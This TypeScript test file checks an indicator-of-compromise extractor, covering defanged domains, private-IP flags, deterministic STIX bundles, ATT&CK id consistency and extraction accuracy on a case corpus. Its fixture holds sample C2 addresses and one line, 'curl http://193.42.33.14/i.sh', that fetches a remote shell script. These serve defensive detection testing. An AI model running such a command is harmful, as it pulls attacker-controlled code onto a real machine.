import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { EntityRow } from '../../src/analyse/analyser.js';
import { IocAnalyser, CODE_BLOCK_SEPARATOR } from '../../src/analyse/plugins/iocs.js';
import { evaluate, extractIocs, IOC_TYPES, parseCases, toStixBundle } from '../../src/analyse/iocs/index.js';
import attackIds from '../../src/analyse/iocs/data/attack-ids.json' with { type: 'json' };

test('the iocs analyser returns valid entity rows with spans per field', async () => {
  const analyser = new IocAnalyser();
  const rows = await analyser.analyse([{
    id: 'p1', siteId: 's1', threadTitle: 'Fresh build on evil-panel[.]ru', bodyText: 'C2 45.142.212.61 and 10.0.0.5',
    bodyHtml: null, codeBlocks: [{ code: 'x = 1' }, { code: 'curl http://193.42.33.14/i.sh' }], attachments: [], language: null,
  }], {});
  for (const row of rows) EntityRow.parse(row);
  const entities = rows.filter((r): r is EntityRow => r.kind === 'entity');
  const title = entities.find((r) => r.field === 'title');
  assert.equal(title?.value, 'evil-panel.ru');
  assert.equal(title?.defanged, true);
  assert.equal('Fresh build on evil-panel[.]ru'.slice(title!.start, title!.end), 'evil-panel[.]ru');
  assert.deepEqual(entities.find((r) => r.value === '10.0.0.5')?.flags, ['private']);
  const code = entities.find((r) => r.field === 'code' && r.type === 'url');
  const joined = ['x = 1', 'curl http://193.42.33.14/i.sh'].join(CODE_BLOCK_SEPARATOR);
  assert.equal(joined.slice(code!.start, code!.end), 'http://193.42.33.14/i.sh');
  assert.equal(analyser.name, 'iocs');
  assert.deepEqual(analyser.writes, ['entities']);
});

test('STIX bundle: deterministic SCO ids, indicators with patterns, one object per value', () => {
  const matches = extractIocs('evil-panel.ru and evil-panel.ru again, 45.142.212.61, AS9009, HKLM\\Software\\Run');
  const a = toStixBundle(matches, new Date('2026-01-01T00:00:00Z'));
  const b = toStixBundle(matches, new Date('2026-01-01T00:00:00Z'));
  assert.deepEqual(a, b);
  const domains = a.objects.filter((o) => o.type === 'domain-name');
  assert.equal(domains.length, 1);
  assert.match(String(domains[0]?.id), /^domain-name--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  const patterns = a.objects.filter((o) => o.type === 'indicator').map((o) => o.pattern);
  assert.ok(patterns.includes("[ipv4-addr:value = '45.142.212.61']"));
  assert.ok(patterns.includes('[autonomous-system:number = 9009]'));
  assert.ok(patterns.includes("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Run']"));
});

const BUNDLE = '../shared/datasets/attack/enterprise-attack.json.gz';

test('the shipped ATT&CK id list matches the MITRE bundle it was derived from', (t) => {
  if (!existsSync(BUNDLE)) {
    t.skip('../shared/datasets/attack is not available');
    return;
  }
  const bundle = JSON.parse(gunzipSync(readFileSync(BUNDLE)).toString('utf8')) as { objects: { type: string; revoked?: boolean; x_mitre_deprecated?: boolean; external_references?: { source_name: string; external_id?: string }[] }[] };
  const techniques = new Set<string>();
  for (const o of bundle.objects) {
    if (o.type !== 'attack-pattern') continue;
    const id = o.external_references?.find((r) => r.source_name === 'mitre-attack')?.external_id;
    if (id !== undefined) techniques.add(id);
  }
  assert.deepEqual([...techniques].sort(), attackIds.techniques);
  assert.ok(attackIds.tactics.includes('TA0001') && attackIds.groups.includes('G0007') && attackIds.software.includes('S0154'));
});

test('the repository case corpus: ≥300 cases, every type covered, micro F1 stays high', () => {
  const cases = parseCases(readFileSync('eval/iocs/cases.jsonl', 'utf8'), 'eval/iocs/cases.jsonl');
  assert.ok(cases.length >= 300, `${cases.length} cases`);
  const covered = new Set(cases.flatMap((c) => Object.keys(c.expected)));
  for (const type of IOC_TYPES) assert.ok(covered.has(type), `no case expects type ${type}`);
  const report = evaluate(cases, (text) => extractIocs(text));
  assert.deepEqual(report.unknownTypes, {});
  assert.ok(report.micro.f1 >= 0.97, `micro F1 ${report.micro.f1}`);
});
